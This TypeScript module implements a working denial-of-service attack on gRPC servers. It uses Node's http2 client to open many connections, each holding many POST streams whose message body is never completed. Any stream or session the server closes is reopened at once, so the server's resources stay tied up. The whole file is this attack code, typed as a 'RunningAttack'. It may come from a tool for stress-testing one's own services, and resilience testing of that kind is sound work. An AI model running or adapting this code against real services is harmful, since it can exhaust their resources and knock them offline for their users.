import type { ClientHttp2Session } from 'node:http2';
import { connect } from 'node:http2';
import type { RunningAttack } from './attack-sockets.ts';

export interface HeldMessages {
  /** `host:port` of a gRPC listener. */
  readonly target: string;
  readonly path: string;
  readonly connections: number;
  /** On each connection. A call that the server ends is made again. */
  readonly calls: number;
  /** What each call sends, without an end. */
  readonly bytes: Buffer;
}

/** Calls whose message never comes whole, as fast as the server's flow control lets them. */
export function holdMessages({ target, path, connections, calls, bytes }: HeldMessages): RunningAttack {
  const sessions = new Set<ClientHttp2Session>();
  let isOver = false;
  let count = 0;
  const call = (session: ClientHttp2Session): void => {
    if (isOver || session.closed || session.destroyed) return;
    const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
    const stream = session.request(headers);
    stream.on('error', () => undefined);
    stream.on('close', () => setImmediate(call, session));
    stream.resume();
    stream.write(bytes);
    count += 1;
  };
  const open = (): void => {
    const session = connect(`http://${target}`);
    sessions.add(session);
    session.on('error', () => undefined);
    session.on('connect', () => {
      for (let index = 0; index < calls; index += 1) call(session);
    });
    session.on('close', () => {
      sessions.delete(session);
      if (!isOver) setTimeout(open, 50).unref();
    });
  };
  for (let index = 0; index < connections; index += 1) open();
  return {
    get count() {
      return count;
    },
    async [Symbol.asyncDispose]() {
      isOver = true;
      await Promise.all(
        Array.from(sessions, async (session) => {
          const closed = new Promise((resolve) => session.once('close', resolve));
          session.destroy();
          await closed;
        }),
      );
    },
  };
}
